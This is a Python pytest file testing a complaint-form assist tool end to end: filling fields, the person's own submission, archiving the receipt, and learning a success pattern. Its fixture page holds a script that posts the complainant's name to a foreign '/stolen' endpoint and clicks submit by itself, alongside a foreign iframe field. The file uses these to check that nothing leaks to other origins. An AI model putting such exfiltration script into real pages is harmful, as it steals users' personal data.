"""``complain assist`` from end to end: the tool fills, the person submits, their word is archived."""

from __future__ import annotations

import io
import json
import os
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from complain.authoring.lint import lint
from complain.channels.definition import load_definition
from complain.cli.asking import LineReader
from complain.cli.assist import TerminalPerson, show_result
from complain.environment import Environment, Home
from complain.errors import PersonNeeded, UsageError
from complain.filing.assisting import AssistRequest, AssistResult, run_assist
from complain.filing.journal import open_journal
from complain.filing.learning import success_pattern
from complain.filing.transitions import By, State
from fakes.browsing import until
from fakes.cli import Cli, copy_example
from widgets.stage import Server

pytestmark = pytest.mark.browser

# The script stands for the person's hand in the window: it presses when the test says so.
PAGE = """<h1>在线投诉</h1>
<form method="post" action="/complaint" enctype="multipart/form-data">
<div><label for="reported">被举报号码</label><input id="reported" name="reported"></div>
<div><label for="who">投诉人姓名：*</label><input id="who" name="who" required></div>
<div><label for="phone">手机号</label><input id="phone" name="phone"></div>
<div><label for="mail">电子邮箱</label><input id="mail" name="mail"></div>
<div><label for="text">投诉内容</label><textarea id="text" name="text" maxlength="4000"></textarea></div>
<div><label for="proof">上传附件</label><input id="proof" name="proof" type="file" multiple></div>
<div><label><input type="checkbox" id="truth" name="truth">以上内容属实</label></div>
<button>提交投诉</button></form>
<iframe src="{foreign}/frame" title="客服"></iframe>
<script>
fetch("/early", {{ method: "POST", body: "x" }});
const timer = setInterval(async () => {{
  const answer = await fetch("/go");
  if (!answer.ok || window.pressed) return;
  window.pressed = true;
  clearInterval(timer);
  fetch("{foreign}/stolen", {{ method: "POST", mode: "no-cors", body: document.querySelector("#who").value }});
  document.querySelector("#truth").checked = true;
  document.querySelector("button").click();
}}, 50);
</script>"""
SEEN = """<script>addEventListener("load", () => fetch("/seen"))</script>"""
FRAME = '<label for="f">投诉人电话</label><input id="f">'


class ScriptedPerson(TerminalPerson):
    """Types a line for each question, and presses the form's button when the number is asked for."""

    def __init__(self, environment: Environment, server: Server, answers: dict[str, str | None]) -> None:
        reading, writing = os.pipe()
        self._desk = os.fdopen(reading, encoding="utf-8")
        super().__init__(environment, LineReader(self._desk))
        self._typing = os.fdopen(writing, "w", encoding="utf-8")
        self._server, self._answers = server, answers
        self.asked: list[str] = []

    def leave(self) -> None:
        """Close the terminal."""
        self._typing.close()
        self._desk.close()

    async def ask(self, question: str) -> str | None:
        self.asked.append(question)
        part = next(part for part in self._answers if part in question)
        if part == "receipt number" and self._answers[part] is not None:
            self._server.pages["/go"] = "go"
            assert await until(lambda: "/seen" in self._server.asked), "the page of the receipt was not shown"
        answer = self._answers[part]
        if answer is None:
            self._typing.close()
        else:
            print(answer, file=self._typing, flush=True)
        return await super().ask(question)


@pytest.fixture
def servers() -> Iterator[tuple[Server, Server]]:
    own, foreign = Server(), Server()
    own.pages["/form"] = PAGE.format(foreign=foreign.origin)
    foreign.pages["/frame"] = FRAME
    own.answers["/complaint"] = "<p>提交成功</p><p>受理编号：TS20261123</p>" + SEEN
    yield own, foreign
    own.close()
    foreign.close()


@pytest.fixture
def environment(tmp_path: Path) -> Environment:
    return Environment(Home(tmp_path / "home", practice=True), stdout=io.StringIO(), stderr=io.StringIO())


def assisted(
    environment: Environment, server: Server, folder: Path, answers: dict[str, str | None]
) -> AssistResult:
    """Run the command as a person would."""
    person = ScriptedPerson(environment, server, {"Enter alone: fill": "", **answers})
    request = AssistRequest(f"{server.origin}/form", folder, headed=False)
    try:
        return run_assist(request, environment, person)
    finally:
        person.leave()


def states(environment: Environment) -> list[tuple[State, By]]:
    with closing(open_journal(environment.home.journal)) as journal:
        return [(event.state, event.by) for event in journal.events("example-basic", "assist-127.0.0.1")]


def test_the_tool_fills_the_person_submits_and_their_word_is_kept(
    tmp_path: Path, environment: Environment, servers: tuple[Server, Server]
) -> None:
    own, foreign = servers
    case = copy_example(tmp_path / "case")
    result = assisted(environment, own, case, {"receipt number": "TS20261123", "Keep what": ""})
    (posted,) = [one for one in own.posted if one.path == "/complaint"]
    assert (posted.value("who"), posted.value("mail")) == ("张示例", "zhangshili@example.com")
    assert (posted.value("phone"), posted.value("reported")) == ("", "")
    assert "张示例" in str(posted.value("text")) and len(posted.files) == 3
    assert [one.path for one in own.posted] == ["/complaint"], (
        "nothing may leave before the fields are filled"
    )
    assert foreign.posted == [], "another origin gets nothing"

    shown = environment.stdout
    assert isinstance(shown, io.StringIO)
    assert (
        "✓ 投诉人姓名" in shown.getvalue()
        and "手机号: The form also asks for somebody else's" in shown.getvalue()
    )
    assert "投诉人电话: The field “投诉人电话” would send" in shown.getvalue()

    saved = tmp_path / "learnt.toml"
    assert (
        show_result(environment, TerminalPerson(environment, LineReader(io.StringIO())), result, saved) == 0
    )
    definition = load_definition(saved)
    assert {mistake.key for mistake in lint(saved).mistakes} == {"outcome.refusal", "outcome.challenge"}, (
        "only what nobody has seen yet is left to be written"
    )
    assert definition.channel.verified is None and "verified" not in saved.read_text("utf-8")
    assert (
        definition.submit.button == "提交投诉" and definition.submit.request == f"POST {own.origin}/complaint"
    )
    assert [field.label for field in definition.pages[0].fields] == [
        "投诉人姓名",
        "电子邮箱",
        "投诉内容",
        "上传附件",
    ]

    assert states(environment)[-2:] == [(State.UNKNOWN, By.RUN), (State.FILED, By.PERSON)]
    receipt = result.report.receipt
    assert receipt is not None and receipt.path is not None and receipt.by == "person"
    kept = json.loads((receipt.path / "data" / "receipt.json").read_text("utf-8"))
    assert (kept["number"], kept["by"]) == ("TS20261123", "person")
    assert "受理编号" in (receipt.path / "data" / "result.txt").read_text("utf-8")

    with pytest.raises(UsageError, match="already filed"):
        assisted(environment, own, case, {})


def test_a_person_who_says_nothing_leaves_it_unknown_and_no_second_one_begins(
    tmp_path: Path, environment: Environment, servers: tuple[Server, Server]
) -> None:
    case = copy_example(tmp_path / "case")
    result = assisted(environment, servers[0], case, {"receipt number": None})
    assert result.report.outcome == "unknown"
    with pytest.raises(UsageError, match="is not known"):
        assisted(environment, servers[0], case, {})


def test_nothing_begins_without_a_terminal(cli: Cli) -> None:
    done = cli("assist", "http://127.0.0.1:9/form", "examples/basic")
    assert done.exit_code == 3
    assert "You submit this form yourself" in done.stderr


def test_nobody_at_the_first_question_means_that_nothing_was_filled(
    tmp_path: Path, environment: Environment, servers: tuple[Server, Server]
) -> None:
    with pytest.raises(PersonNeeded, match="nothing was filled"):
        assisted(environment, servers[0], copy_example(tmp_path / "case"), {"Enter alone: fill": None})
    assert states(environment) == []


@pytest.mark.parametrize(
    ("result", "number", "pattern"),
    [
        ("提交成功\n受理编号：TS20261123", "TS20261123", r"受理编号\s*[:：#]?\s*(?P<number>[A-Z0-9]{8,})"),
        ("编号 12345\n编号 12345", "12345", ""),
        ("谢谢", "12345", ""),
    ],
)
def test_success_is_learnt_only_from_words_before_the_number(result: str, number: str, pattern: str) -> None:
    assert success_pattern(result, number) == pattern
